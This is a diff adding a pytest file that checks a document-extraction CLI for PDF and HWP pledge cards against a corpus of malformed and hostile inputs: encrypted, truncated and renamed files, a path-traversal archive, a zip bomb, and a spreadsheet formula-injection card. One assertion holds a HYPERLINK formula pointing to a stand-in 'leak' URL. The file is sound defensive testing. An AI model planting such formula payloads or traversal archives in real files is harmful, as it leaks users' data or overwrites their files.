@@ -1,0 +1,139 @@
+"""Every file of ../shared/corpus/bad gets the behaviour its README names, run through the CLI as a user would.
+
+One subprocess per file: exit status, one line on stderr naming the file and the
+problem, no traceback, and the good files of a batch still written.
+"""
+from __future__ import annotations
+
+import csv
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT, run_cli
+from scoring import assert_perfect, score
+
+SEED_TRUTH = "cards/seed57-2021Q4.truth.json"
+
+
+def _extract(tmp_path: Path, *files: Path, extra: tuple[str, ...] = ()) -> tuple[subprocess.CompletedProcess, Path]:
+    out = tmp_path / "out"
+    env_args = ("extract", *map(str, files), "--out", str(out), "--no-cache", *extra)
+    return run_cli(*env_args), out
+
+
+def _rows(out: Path, table: str) -> list[dict]:
+    with open(out / f"{table}.csv", encoding="utf-8-sig", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def _one_clear_line(proc: subprocess.CompletedProcess, name: str, *words: str) -> None:
+    err = [l for l in proc.stderr.splitlines() if l.strip()]
+    assert "Traceback" not in proc.stderr, proc.stderr
+    mine = [l for l in err if name in l]
+    assert len(mine) == 1, f"expected one line about {name}, got: {err}"
+    for w in words:
+        assert w.lower() in mine[0].lower(), f"{w!r} not in {mine[0]!r}"
+
+
+@pytest.mark.parametrize(
+    "name, words",
+    [
+        ("encrypted-userpw.pdf", ["password-protected"]),
+        ("truncated-60pct.pdf", ["damaged"]),
+        ("empty.pdf", ["empty file"]),
+        ("scanned-image-only.pdf", ["no text layer"]),
+        ("unrelated-busan-workplan.pdf", ["no pledge item found"]),
+        ("pyhwp_password-12345.hwp", ["password-protected"]),
+        ("hwplib_distribution.hwp", ["no pledge item found"]),
+    ],
+)
+def test_bad_file_is_refused_with_one_line(corpus: Path, tmp_path: Path, name: str, words: list[str]) -> None:
+    proc, out = _extract(tmp_path, corpus / "bad" / name)
+    assert proc.returncode == 1, proc.stderr
+    _one_clear_line(proc, name, *words)
+    for table in ("items", "budget", "plan", "performance"):
+        assert _rows(out, table) == [], f"{name} gave {table} rows"
+
+
+@pytest.mark.parametrize("name", ["encrypted-owner-only.pdf", "hwp-renamed.pdf", "pdf-renamed.hwp", "path-traversal.hwpx"])
+def test_readable_bad_file_gives_the_seed_rows(corpus: Path, tools: Path, tmp_path: Path, name: str) -> None:
+    cwd_before = set(os.listdir(ROOT))
+    proc, out = _extract(tmp_path, corpus / "bad" / name)
+    assert proc.returncode == 0, proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert_perfect(score(tools, corpus / SEED_TRUTH, out))
+    # the stray ../../evil.txt member is never written anywhere
+    assert not list(tmp_path.rglob("evil.txt"))
+    assert not (ROOT.parent / "evil.txt").exists() and not (ROOT.parent.parent / "evil.txt").exists()
+    assert set(os.listdir(ROOT)) == cwd_before
+
+
+def test_injection_card_keeps_hostile_strings_verbatim(corpus: Path, tools: Path, tmp_path: Path) -> None:
+    proc, out = _extract(tmp_path, corpus / "bad" / "injection.lo.pdf")
+    assert proc.returncode == 0, proc.stderr
+    assert_perfect(score(tools, corpus / "bad" / "injection.truth.json", out))
+    texts = {r["text"] for r in _rows(out, "performance")}
+    assert '=HYPERLINK("http://127.0.0.1:9/leak","클릭")' in texts
+
+
+def test_arith_wrong_rows_as_printed_plus_four_findings(corpus: Path, tools: Path, tmp_path: Path) -> None:
+    proc, out = _extract(tmp_path, corpus / "bad" / "arith-wrong.lo.pdf")
+    assert proc.returncode == 0, proc.stderr
+    assert_perfect(score(tools, corpus / "bad" / "arith-wrong.truth.json", out))
+    findings = _rows(out, "findings")
+    assert len(findings) == 4, findings
+
+
+def test_zip_bomb_refused_fast_and_small(corpus: Path, tmp_path: Path) -> None:
+    """Measured in a subprocess: wall time and the peak RSS of the CLI and its workers."""
+    script = (
+        "import resource, subprocess, sys, time\n"
+        "t = time.perf_counter()\n"
+        "p = subprocess.run([sys.executable, '-m', 'pipeline', 'extract', sys.argv[1], '--out', sys.argv[2],"
+        " '--no-cache', '--jobs', '1'], capture_output=True, text=True)\n"
+        "dt = time.perf_counter() - t\n"
+        "rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
+        "print(p.returncode, round(dt, 2), rss)\n"
+        "sys.stderr.write(p.stderr)\n"
+    )
+    proc = subprocess.run(
+        [sys.executable, "-c", script, str(corpus / "bad" / "zipbomb-section0-2GB.hwpx"), str(tmp_path / "out")],
+        cwd=ROOT, capture_output=True, text=True, timeout=120,
+    )
+    code, seconds, rss_kb = proc.stdout.split()
+    assert code == "1", proc.stderr
+    assert float(seconds) < 5, f"took {seconds} s"
+    assert int(rss_kb) < 300 * 1024, f"peak RSS {int(rss_kb) // 1024} MB"
+    _one_clear_line(proc, "zipbomb-section0-2GB.hwpx", "Contents/section0.xml", "limit")
+
+
+def test_batch_goes_on_past_bad_files(corpus: Path, tools: Path, tmp_path: Path) -> None:
+    """All bad files plus a good card in one run: exit 1, one line per bad file, the good card's rows written."""
+    bad = corpus / "bad"
+    inputs = [bad / "empty.pdf", bad / "truncated-60pct.pdf", bad / "encrypted-userpw.pdf",
+              corpus / "cards" / "seed57-2021Q4.lo.pdf", bad / "scanned-image-only.pdf"]
+    proc, out = _extract(tmp_path, *inputs)
+    assert proc.returncode == 1
+    assert "Traceback" not in proc.stderr
+    lines = [l for l in proc.stderr.splitlines() if l.strip()]
+    assert len(lines) == 4, lines
+    assert_perfect(score(tools, corpus / SEED_TRUTH, out, source="seed57-2021Q4.lo.pdf"))
+
+
+def test_usage_errors_exit_2(tmp_path: Path) -> None:
+    assert run_cli("extract", "--out", str(tmp_path)).returncode == 2
+    assert run_cli("extract", "x.pdf").returncode == 2
+    assert run_cli("extract", "x.pdf", "--out", str(tmp_path), "--quarter", "2021-5").returncode == 2
+    assert run_cli("nonsense").returncode == 2
+
+
+def test_missing_file_is_one_line(tmp_path: Path) -> None:
+    proc = run_cli("extract", str(tmp_path / "nope.pdf"), "--out", str(tmp_path / "o"))
+    assert proc.returncode == 1
+    _one_clear_line(proc, "nope.pdf", "not found")
